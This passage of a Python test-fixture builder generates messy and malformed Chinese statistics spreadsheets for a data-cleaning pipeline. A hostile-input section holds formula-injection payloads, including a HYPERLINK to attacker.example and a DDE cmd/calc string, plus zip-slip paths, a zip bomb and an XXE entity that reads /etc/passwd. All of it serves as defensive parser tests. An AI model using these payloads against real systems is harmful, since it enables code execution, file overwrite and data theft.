        "0.105% before, so the growth target became unreachable with exit 0",
    )
    y = ids.year("hitech_value_added")
    rows = [[period, value, growth / 100] for period, value, growth in va_rows(y)]
    add(
        name="growth_as_fraction",
        kind="hitech_value_added",
        filename=f"增速为小数_{y}.xlsx",
        content=va_file(y, rows),
        outcome="quarantine",
        rows_read=11,
        rules={"growth_fraction": 11},
        description="累计增长（%） holding 0.105 in General format: refused with the fix, "
        "never read as 0.105%",
    )
    y = ids.year("hitech_value_added")
    rows = [[period, value * 10_000, growth] for period, value, growth in va_rows(y)]
    add(
        name="wan_formatted_amount",
        kind="hitech_value_added",
        filename=f"万元格式_{y}.xlsx",
        content=va_file(y, rows, formats={"B": '#,##0"万元"'}),
        outcome="clean",
        rows_read=11,
        clean_values={"va_cum_yi": [40.0 * m for m in range(2, 13)]},
        description='values in 万元 shown by the number format #,##0"万元" under a 亿元 header',
    )
    y = ids.year("hitech_value_added")
    rows = va_rows(y)
    rows[5][2] = 105.0  # decimal point lost: 10.5 -> 105
    add(
        name="growth_out_of_range",
        kind="hitech_value_added",
        filename=f"增速异常_{y}.xlsx",
        content=va_file(y, rows),
        outcome="quarantine",
        rows_read=11,
        rules={"out_of_range": 1},
        description="cumulative growth 105% (decimal point lost)",
    )
    y = ids.year("hitech_value_added")
    rows = va_rows(y)
    rows[0][2] = "10.5%"
    rows[1][1] = "１２０．００"
    rows[2][1] = "1,600,000万元"  # 160 亿元 written in 万元 with its unit
    add(
        name="units_and_fullwidth",
        kind="hitech_value_added",
        filename=f"单位混写_{y}.xlsx",
        content=va_file(y, rows),
        outcome="clean",
        rows_read=11,
        clean_values={
            "va_cum_yi": [40.0 * m for m in range(2, 13)],
            "growth_cum_pct": [10.5] * 11,
        },
        description="percent signs, full-width digits, a cell carrying its own unit",
    )
    ys = [ids.year("district_gdp") for _ in range(3)]
    rows = gdp_rows(ys)
    rows[2][1] = "待核算"
    add(
        name="gdp_text_pending",
        kind="district_gdp",
        filename=f"GDP_待核算_{ys[0]}.xlsx",
        content=gdp_file(rows),
        outcome="quarantine",
        rows_read=3,
        rules={"invalid_number": 1},
        description="GDP cell holding 待核算 instead of a number",
    )
    ys = [ids.year("district_gdp") for _ in range(2)]
    rows = gdp_rows(ys) + [["二〇一九年", 1200.0, 6.0]]
    add(
        name="gdp_year_in_words",
        kind="district_gdp",
        filename=f"GDP_中文年份_{ys[0]}.xlsx",
        content=gdp_file(rows),
        outcome="quarantine",
        rows_read=3,
        rules={"invalid_number": 1},
        description="a year written in Chinese numerals",
    )

    # --- identifiers ----------------------------------------------------------------------------
    rows = cert_rows(ids, 5)
    rows[1][2] = wrong_check_digit(rows[1][2])
    add(
        name="wrong_check_digit_cert",
        kind="hitech_certificates",
        filename="校验位错误.xlsx",
        content=cert_file(rows),
        outcome="quarantine",
        rows_read=5,
        rules={"uscc_check_digit": 1},
        description="one credit code with a wrong check digit",
    )
    rows = sme_rows(ids, 5)
    rows[0][3] = wrong_check_digit(rows[0][3])
    rows[4][3] = wrong_check_digit(rows[4][3])
    add(
        name="wrong_check_digit_sme",
        kind="tech_sme_registrations",
        filename="校验位错误.csv",
        content=sme_file(rows),
        outcome="quarantine",
        rows_read=5,
        rules={"uscc_check_digit": 2},
        description="two wrong check digits in a CSV",
    )
    rows = rd_rows(ids, 4)
    rows[0][2] = rows[0][2][:17]
    rows[1][2] = rows[1][2][:16] + "IO"
    add(
        name="uscc_length_charset",
        kind="rd_expenditure",
        filename="信用代码格式.xlsx",
        content=rd_file(rows),
        outcome="quarantine",
        rows_read=4,
        rules={"uscc_length": 1, "uscc_charset": 1},
        description="a 17-character code and one with I/O (not in the alphabet)",
    )
    rows = cert_rows(ids, 4)
    rows[3][2] = None
    add(
        name="missing_uscc_value",
        kind="hitech_certificates",
        filename="信用代码为空.xlsx",
        content=cert_file(rows),
        outcome="quarantine",
        rows_read=4,
        rules={"missing_required": 1},
        description="a blank credit code",
    )
    rows = cert_rows(ids, 4)
    twin = list(rows[1])
    twin[0], twin[1] = 5, "长沙另一家完全不同科技有限公司"
    add(
        name="duplicate_uscc_conflicting_names",
        kind="hitech_certificates",
        filename="同码异名.xlsx",
        content=cert_file([*rows, twin]),
        outcome="quarantine",
        rows_read=5,
        rules={"duplicate_conflict": 2},
        description="one credit code, two different enterprises in the same batch year",
    )
    rows = cert_rows(ids, 3)
    twin = list(rows[0])
    _, other_code = ids.enterprise()
    twin[0], twin[2], twin[3] = 4, other_code, "GR202343999999"
    add(
        name="one_name_two_uscc",
        kind="hitech_certificates",
        filename="同名异码.xlsx",
        content=cert_file([*rows, twin]),
        outcome="quarantine",
        rows_read=4,
        rules={"name_several_uscc": 2},
        description="one enterprise name under two valid credit codes: counted twice before",
    )
    rows = rd_rows(ids, 3)
    twin = list(rows[0])
    twin[0], twin[1], twin[5] = 4, "湖南毫不相干研究院", 99.0
    add(
        name="duplicate_uscc_conflict_rd",
        kind="rd_expenditure",
        filename="同码异名.xlsx",
        content=rd_file([*rows, twin]),
        outcome="quarantine",
        rows_read=4,
        rules={"duplicate_conflict": 2},
        description="R&D: one code, two unit names",
    )
    rows = cert_rows(ids, 4)
    add(
        name="exact_duplicate_row",
        kind="hitech_certificates",
        filename="重复行.xlsx",
        content=cert_file([*rows, list(rows[2])]),
        outcome="quarantine",
        rows_read=5,
        rules={"duplicate_row": 1},
        description="the same row pasted twice",
    )
    rows = sme_rows(ids, 4)
    codes = [r[3] for r in rows]
    rows[1][3] = rows[1][3].translate({ord(c): chr(ord(c) + 0xFEE0) for c in "0123456789"})
    rows[2][3] = " " + rows[2][3].lower() + " "
    add(
        name="uscc_fullwidth_lowercase",
        kind="tech_sme_registrations",
        filename="全角代码.csv",
        content=sme_file(rows),
        outcome="clean",
        rows_read=4,
        clean_values={"uscc": codes},
        description="full-width digits, lower case and spaces around a credit code",
    )

    # --- dates and periods ----------------------------------------------------------------------
    rows = cert_rows(ids, 4)
    rows[2][4] = "2031-11-20"
    add(
        name="future_date_cert",
        kind="hitech_certificates",
        filename="未来日期.xlsx",
        content=cert_file(rows),
        outcome="quarantine",
        rows_read=4,
        rules={"future_date": 1},
        description="issue date in 2031",
    )
    rows = sme_rows(ids, 4)
    rows[0][4] = "2099-01-01"
    add(
        name="future_date_sme",
        kind="tech_sme_registrations",
        filename="未来日期.csv",
        content=sme_file(rows),
        outcome="quarantine",
        rows_read=4,
        rules={"future_date": 1},
        description="registration dated 2099",
    )
    rows = pipe_rows("朔云", 3)
    rows[1][5] = dt.datetime(2031, 1, 1)
    add(
        name="future_recognized_date",
        kind="pipelines",
        filename="台账_未来认定.xlsx",
        content=pipe_file(rows),
        outcome="quarantine",
        rows_read=3,
        rules={"future_date": 1},
        description="a candidate recognised in 2031",
    )
    rows = cert_rows(ids, 4)
    rows[0][4] = "2023-13-05"
    add(
        name="month_13_date",
        kind="hitech_certificates",
        filename="13月.xlsx",
        content=cert_file(rows),
        outcome="quarantine",
        rows_read=4,
        rules={"invalid_date": 1},
        description="a date in month 13",
    )
    y = ids.year("tech_contracts")
    rows = contract_rows(y, cum=False) + [["13月", 30, 9000.0]]
    add(
        name="month_13_period",
        kind="tech_contracts",
        filename=f"13月_{y}.xlsx",
        content=contract_file(y, rows, cum=False),
        outcome="quarantine",
        rows_read=13,
        rules={"invalid_period": 1},
        description="a monthly report row labelled 13月",
    )
    y = ids.year("hitech_value_added")
    rows = va_rows(y)
    rows[7][0] = f"{y}年1-13月"
    add(
        name="cumulative_1_13",
        kind="hitech_value_added",
        filename=f"1-13月_{y}.xlsx",
        content=va_file(y, rows),
        outcome="quarantine",
        rows_read=11,
        rules={"invalid_period": 1},
        description="cumulative period 1-13月",
    )
    y = ids.year("tech_contracts")
    rows = contract_rows(y, months=range(2, 13))
    rows[0][0] = "1-2月"
    add(
        name="jan_feb_combined",
        kind="tech_contracts",
        filename=f"1-2月合并_{y}.xlsx",
        content=contract_file(y, rows),
        outcome="clean",
        rows_read=11,
        clean_values={"month": list(range(2, 13)), "months_covered": [2] + [1] * 10},
        description='"1-2月" combined period: one row, months_covered 2',
    )
    rows = cert_rows(ids, 4)
    serial = (dt.date(2023, 11, 20) - dt.date(1899, 12, 30)).days
    rows[0][4], rows[1][4], rows[2][4] = serial, str(serial), "2023年11月20日"
    add(
        name="excel_serial_dates",
        kind="hitech_certificates",
        filename="序列号日期.xlsx",
        content=cert_file(rows),
        outcome="clean",
        rows_read=4,
        clean_values={"issue_date": [pd.Timestamp("2023-11-20")] * 4},
        description="Excel serial dates (number and text) and a 年月日 date",
    )
    rows = sme_rows(ids, 4)
    rows[0][4] = "45031"  # 2023-04-15
    rows[1][4] = "2023/4/15"
    rows[2][4] = "20230415"
    rows[3][4] = "2023.04.15"
    add(
        name="sme_date_styles",
        kind="tech_sme_registrations",
        filename="日期格式.csv",
        content=sme_file(rows),
        outcome="clean",
        rows_read=4,
        clean_values={"registration_date": [pd.Timestamp("2023-04-15")] * 4},
        description="serial, slash, compact and dotted dates in a CSV",
    )
    rows = pipe_rows("汀兰", 3)
    rows[0][4] = "下半年"
    add(
        name="unparseable_date",
        kind="pipelines",
        filename="台账_日期文字.xlsx",
        content=pipe_file(rows),
        outcome="quarantine",
        rows_read=3,
        rules={"invalid_date": 1},
        description="expected date 下半年",
    )

    # --- spreadsheet structure: merged cells, formulas, totals, notes -------------------------
    y = ids.year("tech_contracts")
    add(
        name="merged_two_row_header",
        kind="tech_contracts",
        filename=f"合并表头_{y}.xlsx",
        content=contract_file(y, contract_rows(y)),
        outcome="clean",
        rows_read=12,
        clean_values={"contracts": [float(20 + m) for m in range(1, 13)]},
        description="本月/累计 group headers merged over two columns each",
    )
    rows = cert_rows(ids, 4)
    for r in rows[1:]:
        r[5] = None
    content = xlsx_bytes({"2023年": [["天心区2023年度高新技术企业认定名单"], CERT_HEADER, *rows]},
                         merges={"2023年": ["F3:F6", "A1:H1"]})  # fmt: skip
    add(
        name="merged_data_cells",
        kind="hitech_certificates",
        filename="合并单元格.xlsx",
        content=content,
        outcome="quarantine",
        rows_read=4,
        rules={"missing_required": 3},
        description="技术领域 merged down four rows: the covered rows show no value and are "
        "quarantined with the reason, never silently filled or dropped",
    )
    y = ids.year("tech_contracts")
    rows = contract_rows(y, cum=False) + [["合计", "=SUM(B5:B16)", "=SUM(C5:C16)"]]
    add(
        name="formula_total_row",
        kind="tech_contracts",
        filename=f"公式合计_{y}.xlsx",
        content=contract_file(y, rows, cum=False),
        outcome="quarantine",
        rows_read=13,
        rules={"total_row": 1},
        description="a 合计 row of =SUM(...) formulas",
    )
    y = ids.year("tech_contracts")
    rows = contract_rows(y, cum=False)
    rows[3][2] = "=C6*1.1"
    add(
        name="formula_no_cached_value",
        kind="tech_contracts",
        filename=f"公式无值_{y}.xlsx",
        content=contract_file(y, rows, cum=False),
        outcome="quarantine",
        rows_read=12,
        rules={"missing_required": 1},
        description="a formula saved without a cached value (generated files) reads as blank",
    )
    y = ids.year("tech_contracts")
    rows = contract_rows(y, cum=False)
    rows[3][2] = "=C6+1000"
    add(
        name="formula_cached_value",
        kind="tech_contracts",
        filename=f"公式有值_{y}.xlsx",
        content=xlsx_bytes(
            {
                f"{y}年": [
                    [f"天心区技术合同月报（{y}年）"],
                    ["月份", "合同数（项）", "成交额（万元）"],
                    *rows,
                ]
            },
            cached={(1, "C6"): 12000.5},
        ),  # fmt: skip
        outcome="clean",
        rows_read=12,
        clean_values={"value_wan": [r[2] if m != 3 else 12000.5 for m, r in enumerate(rows)]},
        description="a formula with its cached value (as Excel saves it): the value is used",
    )
    rows = sme_rows(ids, 3)
    rows[1][6] = "=2023"
    add(
        name="formula_text_in_csv",
        kind="tech_sme_registrations",
        filename="公式文本.csv",
        content=sme_file(rows),
        outcome="quarantine",
        rows_read=3,
        rules={"invalid_number": 1},
        description="formula text =2023 in the year column of a CSV",
    )
    y = ids.year("tech_contracts")
    rows = contract_rows(y)
    rows[4][3] += 40  # cumulative count no longer the running sum
    add(
        name="cumulative_mismatch",
        kind="tech_contracts",
        filename=f"累计不符_{y}.xlsx",
        content=contract_file(y, rows),
        outcome="quarantine",
        rows_read=12,
        rules={"cumulative_mismatch": 1},
        description="cumulative 合同数 off by 40 in May",
    )
    y = ids.year("tech_contracts")
    rows = contract_rows(y, cum=False)
    rows.insert(5, ["5月", 99, 99999.0])
    add(
        name="duplicate_month",
        kind="tech_contracts",
        filename=f"重复月份_{y}.xlsx",
        content=contract_file(y, rows, cum=False),
        outcome="quarantine",
        rows_read=13,
        rules={"duplicate_key": 2},
        description="two different rows for 5月: neither can be trusted",
    )
    rows = rd_rows(ids, 4) + [[None, "注：本表数据为初步统计。", None, None, None, None],
                              ["2. 单位类型按统计制度划分。", None, None, None, None, None]]  # fmt: skip
    add(
        name="footnotes",
        kind="rd_expenditure",
        filename="表注.xlsx",
        content=rd_file(rows),
        outcome="quarantine",
        rows_read=6,
        rules={"footnote_row": 2},
        description="two footnote lines under the table",
    )
    rows = cert_rows(ids, 4)
    body = [rows[0], [None] * 8, rows[1], [None] * 8, [None] * 8, rows[2], rows[3]]
    add(
        name="blank_rows_between",
        kind="hitech_certificates",
        filename="空行.xlsx",
        content=cert_file(body),
        outcome="clean",
        rows_read=4,
        description="blank rows between data rows are skipped and counted, not data",
    )
    rows = pipe_rows("峻禾", 4)
    rows[1][3] = "待定"
    rows[2][3] = "已通过 "
    add(
        name="unknown_stage",
        kind="pipelines",
        filename="台账_阶段.xlsx",
        content=pipe_file(rows),
        outcome="quarantine",
        rows_read=4,
        rules={"unknown_category": 1},
        description="stage 待定 is unknown; 已通过 is an alias of 已认定",
    )
    rows = cert_rows(ids, 4)
    rows[0][5] = "人工智能"
    rows[1][7] = "暂停"
    add(
        name="unknown_categories_cert",
        kind="hitech_certificates",
        filename="未知类别.xlsx",
        content=cert_file(rows),
        outcome="quarantine",
        rows_read=4,
        rules={"unknown_category": 2},
        description="an unknown 技术领域 and an unknown 状态",
    )
    rows = rd_rows(ids, 3)
    rows.append([4, None, None, None, None, None])
    rows.append([5, None, None, None, None, None])
    add(
        name="serial_number_only_rows",
        kind="rd_expenditure",
        filename="只有序号.xlsx",
        content=rd_file(rows),
        outcome="quarantine",
        rows_read=5,
        rules={"missing_required": 2},
        description="rows holding only a 序号",
    )

    # --- hostile text ---------------------------------------------------------------------------
    rows = cert_rows(ids, len(FORMULA_PAYLOADS) + 1)
    for r, payload in zip(rows, FORMULA_PAYLOADS, strict=False):
        r[1] = TextCell(payload)
    add(
        name="formula_payload_names",
        kind="hitech_certificates",
        filename="公式注入.xlsx",
        content=cert_file(rows),
        outcome="clean",
        rows_read=len(rows),
        description="enterprise names carrying spreadsheet-formula payloads: kept as text, "
        "neutralised in every CSV/XLSX export (test_safe_outputs reads them back)",
    )
    rows = sme_rows(ids, 3)
    rows[0][2] = '=HYPERLINK("http://attacker.example","x")'
    rows[1][1] = "@SUM(A1:A9)"
    add(
        name="formula_payload_csv",
        kind="tech_sme_registrations",
        filename="公式注入.csv",
        content=sme_file(rows),
        outcome="clean",
        rows_read=3,
        description="formula payloads in a CSV name and registration number",
    )
    rows = pipe_rows("墨岫", 3)
    rows[0][1] = TextCell("=cmd|' /C calc'!A0")
    add(
        name="formula_payload_candidate",
        kind="pipelines",
        filename="台账_注入.xlsx",
        content=pipe_file(rows),
        outcome="clean",
        rows_read=3,
        description="a formula payload as a pipeline candidate",
    )
    rows = cert_rows(ids, 3)
    rows[0][1] = rows[0][1] + "\u200b\u202e"
    rows[1][1] = "长沙" + "很长" * 2000 + "科技有限公司"
    add(
        name="control_and_long_text",
        kind="hitech_certificates",
        filename="控制字符.xlsx",
        content=cert_file(rows),
        outcome="clean",
        rows_read=3,
        description="zero-width and bidi control characters; a 4,000-character name",
    )

    # --- hostile containers ---------------------------------------------------------------------
    plain = cert_file(cert_rows(ids, 3))
    src = zipfile.ZipFile(io.BytesIO(plain))
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(zipfile.ZipInfo(info.filename, _ZIP_TIME), src.read(info.filename))
        dst.writestr(zipfile.ZipInfo("../../../zip_slip_escaped.txt", _ZIP_TIME), b"pwned")
        dst.writestr(zipfile.ZipInfo("/tmp/zip_slip_absolute.txt", _ZIP_TIME), b"pwned")
    add(
        name="zip_slip_member",
        kind="hitech_certificates",
        filename="路径穿越.xlsx",
        content=zbuf.getvalue(),
        outcome="clean",
        rows_read=3,
        description="a workbook whose zip holds ../ and absolute member names: read in "
        "memory, nothing extracted anywhere",
    )
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(zipfile.ZipInfo("xl/workbook.xml", _ZIP_TIME), b"<workbook/>")
        zf.writestr(zipfile.ZipInfo("xl/worksheets/sheet1.xml", _ZIP_TIME), b" " * 20_000_000)
    add(
        name="zip_bomb_like",
        kind="tech_contracts",
        filename="压缩炸弹.xlsx",
        content=bomb.getvalue(),
        outcome="error",
        message="工作簿",
        io_error=True,
        description="a 20 MB sheet of spaces compressed to ~20 kB, no valid workbook parts",
    )
    # --- issue 17: hostile sizes, empty workbooks -----------------------------------------------
    add(
        name="far_cell_xlsx",
        kind="hitech_certificates",
        filename="远端单元格.xlsx",
        content=patch_xlsx(
            cert_file(cert_rows(ids, 3)),
            {"xl/worksheets/sheet1.xml": lambda x: x.replace(b"</sheetData>", FAR_CELL_ROW)},
        ),
        outcome="error",
        message="工作表范围过大",
        io_error=True,
        description="a 5 kB workbook with one more cell at XFD1048576: calamine would lay out "
        "1.7e10 cells (512 GiB) and abort the interpreter",
    )
    add(
        name="empty_workbook_xlsx",
        kind="hitech_value_added",
        filename="空工作簿.xlsx",
        content=xlsx_bytes({"Sheet1": []}),
        outcome="error",
        message="文件为空",
        io_error=True,
        description="a valid workbook whose only sheet holds no cell: a FAILED file, not skipped",
    )
    add(
        name="long_cell_ragged_csv",
        kind="tech_sme_registrations",
        filename="超长单元格.csv",
        content=csv_bytes([list(SME_HEADER), [*sme_rows(ids, 1)[0], "x" * 150_000]]),
        outcome="error",
        message="单元格文字过长",
        io_error=True,
        description="a ragged CSV with a 150,000-character cell (csv.Error field limit before)",
    )
    add(
        name="html_span_bomb",
        kind="pipelines",
        filename="合并炸弹.xls",
        content=b"<table><tr><td rowspan=65534 colspan=1000>x</td></tr></table>",
        outcome="error",
        message="HTML 表格单元格过多",
        io_error=True,
        description="HTML-as-xls whose one cell spans 65,534 x 1,000 cells",
    )
    xxe = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        "<html><body><table><tr><td>企业名称</td><td>统一社会信用代码</td></tr>"
        "<tr><td>&x;</td><td>1</td></tr></table></body></html>"
    )
    add(
        name="html_external_entity",
        kind="hitech_certificates",
        filename="外部实体.xls",
        content=xxe.encode(),
        outcome="error",
        message="缺少必需的列",
        description="HTML-as-xls declaring an external entity: never resolved; table has "
        "too few of the required columns",
    )
    return cases


def large_sme_csv(path: str | Path, n_rows: int, seed: int = 7, year: int = 2023) -> Path:
    """Write a valid tech-SME registration CSV of ``n_rows`` rows fast (numpy + pandas).

    GB18030 like the real exports; every credit code valid and distinct; dates spread over the
    year; enterprise names distinct.
    """
    rng = np.random.default_rng(seed)
    serial = np.arange(n_rows, dtype=np.int64) + 20_000_000
    month = rng.integers(1, 13, n_rows)
    day = rng.integers(1, 29, n_rows)
    idx = pd.Series(np.arange(1, n_rows + 1)).astype("str")
    frame = pd.DataFrame(
        {
            "序号": idx,
            "入库登记编号": f"{year}430103" + idx.str.zfill(7),
            "企业名称": "长沙测" + idx + "号科技有限公司",
            "统一社会信用代码": uscc_codes(serial),
            "入库日期": pd.to_datetime(
                pd.DataFrame({"year": year, "month": month, "day": day})
            ).dt.strftime("%Y-%m-%d"),
            "批次": month,
            "年度": year,
        }
    )
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    frame.to_csv(path, index=False, encoding="gb18030", lineterminator="\r\n")
    return path


def cases_by_name() -> dict[str, Case]:
    return {c.name: c for c in build_cases()}


def write_corpus(raw_dir: str | Path, cases: Sequence[Case] | None = None) -> list[Path]:
    """Write every case under ``raw_dir/<kind>/``; file names are unique per kind."""
    cases = build_cases() if cases is None else cases
    seen: set[str] = set()
    paths = []
    for c in cases:
        assert c.relpath not in seen, f"two cases write {c.relpath}"
        seen.add(c.relpath)
        paths.append(c.write(raw_dir))
    return paths
